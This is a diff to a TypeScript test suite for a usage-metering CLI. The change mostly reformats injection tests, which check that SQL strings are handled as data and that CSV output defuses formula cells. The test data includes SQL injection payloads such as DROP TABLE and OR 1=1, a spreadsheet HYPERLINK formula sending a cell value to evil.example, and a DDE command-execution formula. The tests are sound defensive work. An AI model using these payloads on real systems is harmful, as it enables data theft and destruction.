@@ -37,7 +37,15 @@ after(() => w.remove());
 /** Subjects that are SQL text; each is stored as a customer of its own. */
 const SQL_SUBJECTS = ["'; DROP TABLE events; --", "acme') OR 1=1 --", "' OR '1'='1", 'a\\b', '"quoted"', 'x;y', '-- c', 'plain'];
 /** Subjects a spreadsheet would run as formulas. */
-const FORMULA_SUBJECTS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+2', '\r=1+2', '=cmd|\' /C calc\'!A0'];
+const FORMULA_SUBJECTS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+2',
+  '\r=1+2',
+  "=cmd|' /C calc'!A0",
+];
 const FORMULA_MODELS = ['=1+1', '+gpt', '-gpt', '@gpt', '\tgpt', '\rgpt'];
 /** Data keys that are SQL-ish yet valid JSON path steps. */
 const ODD_KEYS = ['a;b', 'c--d', 'e)OR(1=1', 'f=1', 'g*/'];
@@ -55,7 +63,13 @@ const BASE_METERS = [
   { slug: 'tokens', eventType: 'prompt', aggregation: 'SUM', valueProperty: '$.tokens', groupBy: { model: '$.model' } },
   { slug: 'events', eventType: 'prompt', aggregation: 'COUNT' },
   { slug: 'hostile_type', eventType: "prompt'); DROP TABLE events; --", aggregation: 'COUNT' },
-  ...ODD_KEYS.map((k, i) => ({ slug: `odd_${i}`, eventType: 'prompt', aggregation: 'SUM', valueProperty: `$.${k}`, groupBy: { g: `$.${k}` } })),
+  ...ODD_KEYS.map((k, i) => ({
+    slug: `odd_${i}`,
+    eventType: 'prompt',
+    aggregation: 'SUM',
+    valueProperty: `$.${k}`,
+    groupBy: { g: `$.${k}` },
+  })),
 ];
 
 before(() => {
@@ -100,7 +114,9 @@ function assertUsage(r: RunResult, what: string): void {
 /** RFC 4180 CSV parser (quoted cells with "" escapes, CR/LF inside quotes). */
 function parseCsv(text: string): string[][] {
   const out: string[][] = [];
-  let row: string[] = [], cell = '', q = false;
+  let row: string[] = [],
+    cell = '',
+    q = false;
   for (let i = 0; i < text.length; i++) {
     const c = text[i]!;
     if (q) {
@@ -140,24 +156,40 @@ describe('injection', () => {
     const kinds: Array<[string, (h: string, i: number) => Record<string, unknown> | null]> = [
       ['slug', (h) => ({ slug: h, eventType: 'prompt', aggregation: 'COUNT' })],
       ['groupBy key', (h, i) => ({ slug: `m${i}`, eventType: 'prompt', aggregation: 'COUNT', groupBy: { [h]: '$.model' } })],
-      ['valueProperty', (h, i) => {
-        const p = h.startsWith('$.') ? h : `$.${h}`;
-        // A path that passes validation is a bound parameter: such paths are tested as data below.
-        return checkJsonPath(p) === null ? null : { slug: `m${i}`, eventType: 'prompt', aggregation: 'SUM', valueProperty: p };
-      }],
-      ['groupBy path', (h, i) => (checkJsonPath(`$.a${h}`) === null ? null : { slug: `m${i}`, eventType: 'prompt', aggregation: 'COUNT', groupBy: { k: `$.a${h}` } })],
+      [
+        'valueProperty',
+        (h, i) => {
+          const p = h.startsWith('$.') ? h : `$.${h}`;
+          // A path that passes validation is a bound parameter: such paths are tested as data below.
+          return checkJsonPath(p) === null ? null : { slug: `m${i}`, eventType: 'prompt', aggregation: 'SUM', valueProperty: p };
+        },
+      ],
+      [
+        'groupBy path',
+        (h, i) =>
+          checkJsonPath(`$.a${h}`) === null
+            ? null
+            : { slug: `m${i}`, eventType: 'prompt', aggregation: 'COUNT', groupBy: { k: `$.a${h}` } },
+      ],
       ['aggregation', (h, i) => ({ slug: `m${i}`, eventType: 'prompt', aggregation: `SUM${h}`, valueProperty: '$.tokens' })],
     ];
     for (const [kind, make] of kinds) {
       const meters = HOSTILE.map(make).filter((m) => m !== null);
       assert.ok(meters.length >= HOSTILE.length - 1, `${kind}: most hostile strings are invalid`);
       fs.writeFileSync(w.path('bad.yaml'), meterYaml(meters));
-      for (const cmd of [['query', '--config', 'bad.yaml'], ['ingest', '--config', 'bad.yaml', 'e.ndjson'], ['meters', '--config', 'bad.yaml']]) {
+      for (const cmd of [
+        ['query', '--config', 'bad.yaml'],
+        ['ingest', '--config', 'bad.yaml', 'e.ndjson'],
+        ['meters', '--config', 'bad.yaml'],
+      ]) {
         const r = w.run(cmd);
         assertUsage(r, `${kind} (${cmd[0]})`);
         assert.match(r.stderr, /invalid meter config bad\.yaml/, r.describe());
         const problems = r.stderr.split('\n').filter((l) => /^\s+meter /.test(l));
-        assert.ok(problems.length >= meters.length, `${kind}: ${problems.length} problems for ${meters.length} bad meters\n${r.describe()}`);
+        assert.ok(
+          problems.length >= meters.length,
+          `${kind}: ${problems.length} problems for ${meters.length} bad meters\n${r.describe()}`,
+        );
       }
     }
     assertIntact('hostile configs');
@@ -168,7 +200,11 @@ describe('injection', () => {
       const rows = csvQuery(['-m', `odd_${i}`, '--all-subjects']);
       assert.equal(rows[1]!.at(-1), String(i + 1), `$.${k}`);
       const grouped = csvQuery(['-m', `odd_${i}`, '--all-subjects', '-g', 'g', '-f', `g=${i + 1}`]);
-      assert.deepEqual(grouped.slice(1).map((r) => r.slice(2)), [['', String(i + 1), String(i + 1)]], `$.${k} grouped`);
+      assert.deepEqual(
+        grouped.slice(1).map((r) => r.slice(2)),
+        [['', String(i + 1), String(i + 1)]],
+        `$.${k} grouped`,
+      );
     });
     assertIntact('odd paths');
   });
@@ -205,7 +241,10 @@ describe('injection', () => {
     }
     // A filter value that is SQL matches the one event whose model is that text.
     const f = csvQuery(['-m', 'tokens', '-g', 'model', '--all-subjects', '-f', "model=x' OR 'a'='a"]);
-    assert.deepEqual(f.slice(1).map((r) => r.slice(3)), [["x' OR 'a'='a", '1']]);
+    assert.deepEqual(
+      f.slice(1).map((r) => r.slice(3)),
+      [["x' OR 'a'='a", '1']],
+    );
     // Group-by keys and meters that are not configured are refused, not pasted.
     for (const h of ["x'; DROP TABLE events; --", "') OR 1=1 --", '" OR ""="', 'a\\b; --']) {
       assertUsage(w.run(['query', '-m', 'tokens', '-g', h]), `-g ${h}`);
@@ -222,7 +261,13 @@ describe('injection', () => {
     const rows = csvQuery(['-m', 'tokens', '-g', 'model', '-s', 'plain']);
     const models = rows.slice(1).map((r) => r[3]);
     assert.ok(models.includes('with\u0000nul'), JSON.stringify(models));
-    assert.equal(rows.slice(1).find((r) => r[3] === 'with\u0000nul')!.at(-1), '2');
+    assert.equal(
+      rows
+        .slice(1)
+        .find((r) => r[3] === 'with\u0000nul')!
+        .at(-1),
+      '2',
+    );
   });
 
   test('a store path holding quotes and semicolons is just a file name', () => {
@@ -235,7 +280,11 @@ describe('injection', () => {
   });
 
   test('CSV: subject and group cells starting with = + - @ tab or CR are defused with a leading quote; numbers stay numbers', () => {
-    for (const args of [['-m', 'tokens'], ['-m', 'tokens', '-g', 'model'], ['-m', 'tokens', '-g', 'model', '-w', 'day', '--tz', 'Europe/Budapest']]) {
+    for (const args of [
+      ['-m', 'tokens'],
+      ['-m', 'tokens', '-g', 'model'],
+      ['-m', 'tokens', '-g', 'model', '-w', 'day', '--tz', 'Europe/Budapest'],
+    ]) {
       const r = w.run(['query', ...args, '--format', 'csv', '-o', 'out.csv']);
       assert.equal(r.code, 0, r.describe());
       const table = parseCsv(w.read('out.csv'));
@@ -252,7 +301,8 @@ describe('injection', () => {
         });
       }
       const subjects = table.slice(1).map((x) => x[2]!);
-      for (const s of FORMULA_SUBJECTS) assert.ok(subjects.includes(`'${s}`), `${JSON.stringify(s)} not defused as '${JSON.stringify(s)}: ${JSON.stringify(subjects)}`);
+      for (const s of FORMULA_SUBJECTS)
+        assert.ok(subjects.includes(`'${s}`), `${JSON.stringify(s)} not defused as '${JSON.stringify(s)}: ${JSON.stringify(subjects)}`);
       if (args.includes('model')) {
         const models = table.slice(1).map((x) => x[3]!);
         for (const m of FORMULA_MODELS) assert.ok(models.includes(`'${m}`), `${JSON.stringify(m)} not defused: ${JSON.stringify(models)}`);
@@ -264,7 +314,11 @@ describe('injection', () => {
     }
     // The same on stdout.
     const out = w.run(['query', '-m', 'tokens', '--format', 'csv']);
-    assert.ok(parseCsv(out.stdout).slice(1).every((r) => !/^[=+\-@\t\r]/.test(r[2]!)));
+    assert.ok(
+      parseCsv(out.stdout)
+        .slice(1)
+        .every((r) => !/^[=+\-@\t\r]/.test(r[2]!)),
+    );
     assertIntact('csv');
   });
 });
